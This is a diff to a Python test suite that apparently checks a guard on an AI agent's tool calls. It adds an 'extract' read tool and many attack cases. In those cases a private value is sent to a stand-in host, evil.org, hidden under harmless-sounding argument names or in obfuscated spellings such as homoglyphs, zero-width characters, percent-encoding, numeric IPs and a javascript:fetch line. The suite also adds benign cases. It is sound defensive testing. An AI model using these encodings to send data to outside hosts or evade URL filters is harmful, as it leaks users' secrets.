@@ -99,6 +99,12 @@ class Days(BaseModel):
     days: int
 
 
+class Lookup(BaseModel, extra="allow"):
+    """A read with any arguments."""
+
+    urls: list[str] = []
+
+
 class Anything(BaseModel):
     """What a tool returns."""
 
@@ -120,6 +126,12 @@ async def fetch(args: Page) -> Anything:
 @tool.read
 async def contacts(args: Name) -> Anything:
     """Look a contact up."""
+    return Anything()
+
+
+@tool.read
+async def extract(args: Lookup) -> Anything:
+    """Extract something with a service that is told the arguments."""
     return Anything()
 
 
@@ -184,7 +196,7 @@ def later(args: Days) -> Anything:
 
 
 COMPUTING: list[Tool[..., Any]] = [add, multiply, join, later, calculate]
-KINDS = Registry([read_page, fetch, contacts, search_web, pay, pay_many, send, write, label, *COMPUTING])
+KINDS = Registry([read_page, fetch, contacts, extract, search_web, pay, pay_many, send, write, label, *COMPUTING])
 
 
 def read(shown: JsonValue, kind: str = "read_page", id: str = "r", *, tainted: bool = False, **args: Any) -> StepRecord:
@@ -264,6 +276,11 @@ def visit(url: JsonValue, kind: str = "fetch") -> Step:
     return Step(id="v", kind=kind, args={"url": url})
 
 
+def lookup(**args: JsonValue) -> Step:
+    """A read with these arguments, which says nothing about them."""
+    return Step(id="v", kind="extract", args=args)
+
+
 def reference(step: str, path: str = "result") -> JsonValue:
     """The result of a step."""
     return {"$from": step, "path": path}
@@ -274,7 +291,74 @@ OPEN = may()
 """A contract whose arguments need a trusted source."""
 PRIVATE = "4711-private"
 
+EVIL = f"https://evil.org/?d={PRIVATE}"
+ARGUMENTS: dict[str, JsonValue] = {
+    "urls": [EVIL],
+    "link": EVIL,
+    "href": EVIL,
+    "webhook": EVIL,
+    "server": "evil.org",
+    "address": "evil.org:8080",
+    "site": "evil.org",
+    "src": "//evil.org/x.png",
+    "target": "evil@evil.org",
+    "request": {"url": EVIL},
+    "to": [{"deep": [{"er": EVIL}]}],
+    "headers": {EVIL: "x"},
+    "body": f'{{"callback": "{EVIL}"}}',
+    "query": f"what is at {EVIL} today",
+}
+"""Arguments of a read with an address, under names that do not say so."""
+SPELLINGS = (
+    *("http://evil.org", "HTTP://EVIL.ORG/", "//evil.org", "x://evil.org", "http:evil.org", "https:/evil.org"),
+    *("\\\\evil.org\\x", "http:\\\\evil.org", "http:/\\evil.org", "ht\ttp://evil.org", "http:/\n/evil.org"),
+    *("ht\u200btp:/\u200b/evil.org", "evil\u00ad.org", "http%3A%2F%2Fevil.org", "http%253A%252f%252fevil.org"),
+    *("evil%2Eorg", "\uff48\uff54\uff54\uff50\uff1a\uff0f\uff0fevil.org", "evil\uff0eorg", "evil\u3002org"),
+    *("evil\uff61org", "xn--evl-zma.org", "evil.xn--p1ai", "b\u00fccher.example", "\u4f8b\u3048.\u30c6\u30b9\u30c8"),
+    *("evil.org", "EVIL.ORG.", "sub.evil.org:8080/path", "evil.org/?d=two words", "evil.org, other.org", "evil.org\0"),
+    *(
+        "<evil.org>",
+        "evil.org\0.pdf",
+        "evil.org\r\nX: y",
+        "mailto:eve@evil.org",
+        "eve@evil.org",
+        "user@host",
+        "git@evil.org:x",
+    ),
+    *(
+        "10.0.0.1",
+        "10.0.0.1:80",
+        "at 10.0.0.1 now",
+        "0177.0.0.1",
+        "0x7f.0.0.1",
+        "http://2130706433/",
+        "\uff11\uff10.0.0.1",
+    ),
+    *("[::1]:80", "http://[::1]/", "2001:db8::1", "fe80::1%eth0", "[::ffff:10.0.0.1]", "localhost", "localhost:80"),
+    *("at evil.org:8443 now", '{"url": "https:\\/\\/evil.org"}', '{"at": "evil.org"}', '[["evil.org"]]'),
+    *(
+        "http:\\u002f\\u002fevil.org",
+        "http&#58;&#47;&#47;evil.org",
+        "javascript:fetch('//evil.org')",
+        "s3://bucket/key",
+    ),
+)
+"""Ways to write an address."""
+
 ATTACKS: dict[str, Attack] = {
+    **{f"an address as {name}": Attack(lookup(**{name: value})) for name, value in ARGUMENTS.items()},
+    **{f"an address written {text!r}": Attack(lookup(about=text)) for text in SPELLINGS},
+    "a host and its path apart": Attack(lookup(server="evil.org", path=f"/{PRIVATE}")),
+    "a host of one word, as a nested url": Attack(lookup(request={"baseUrl": "metadata"})),
+    "a number as a nested host": Attack(lookup(request={"host": 2130706433})),
+    "an address as the name of an argument": Attack(lookup(**{EVIL: "x"})),
+    "an address that the contract of the read does not name": Attack(lookup(link=EVIL), contract=[may("extract")]),
+    "another address than the contract has": Attack(
+        lookup(link=EVIL), contract=[may("extract", link="https://x.org/")]
+    ),
+    "an empty list, where something else is the default": Attack(payment(ANN, approvers=[]), contract=[OPEN]),
+    "an empty object": Attack(payment(ANN, approvers={}), contract=[OPEN]),
+    "an empty list in a list": Attack(payment(ANN, approvers=[{"of": []}]), contract=[OPEN]),
     # no contract, or another call
     "an order without a contract": Attack(payment()),
     "an order without a contract, to whom the user named": Attack(payment(ANN)),
@@ -618,6 +702,13 @@ def test_there_are_many() -> None:
     assert len(ATTACKS) >= 60
 
 
+NO_ADDRESSES = (
+    *("main.tf", "key.pub", "report.pdf", "src/main.py", "../x.py", "~/x", "C:\\Users\\x", "/var/log", "main.py:12"),
+    *("3.14", "v1.2.3", "2026-05-01", "12:30", "order-17", "order:1042", "aa:bb:cc:dd:ee:ff", "50%", "%zz", "x=1&y=2"),
+    *("note: buy milk", "read evil.org please", "e.g.", "Mr. Smith", "@eve", "std::vector", "and/or", "I think so..."),
+    *("data:text/plain,hi", "\u4f60\u597d\u3002\u4e16\u754c", "[1, 2]", "{}"),
+)
+"""Values that lead nowhere, or name a host in a sentence."""
 FAIR: dict[str, Attack] = {
     "what was planned": Attack(payment(ANN), contract=[FIXED]),
     "its content from the page": Attack(payment(ANN, subject=reference("r")), contract=[FIXED]),
@@ -668,6 +759,20 @@ FAIR: dict[str, Attack] = {
     "an address in words": Attack(payment("ann@x.org"), "x", "Pay ann at x dot org 100.", [OPEN]),
     "a number with separators": Attack(payment(ANN, 1000), "x", f"Pay {ANN} 1,000 euros.", [OPEN]),
     "a read with anything": Attack(Step(id="c", kind="contacts", args={"name": "anybody"})),
+    "a read of the user's address, whatever its name": Attack(
+        lookup(urls=["https://x.org/a?b=1"], request={"url": "https://x.org/a?b=1", "words": "anything"}),
+        "x",
+        "Look at https://x.org/a?b=1.",
+    ),
+    "a read of a host that the user named": Attack(lookup(server="x.org"), "x", "Ask x.org."),
+    "a read of the address of a trusted result": Attack(
+        lookup(link=EVIL), [read("x"), read(EVIL, "contacts", "c", name="ann")]
+    ),
+    "a read of an address that the user allowed": Attack(lookup(link=EVIL), contract=[may("extract", link=EVIL)]),
+    "a read with no address": Attack(
+        lookup(urls=[], about="words of the page", file="notes.md", path="src/main.tf", at="12:30:45", n=5, more={})
+    ),
+    **{f"a read about {text!r}": Attack(lookup(about=text)) for text in NO_ADDRESSES},
     "a read of the user's address": Attack(visit("https://x.org/a?b=1"), "x", "Look at https://x.org/a?b=1."),
 }
 
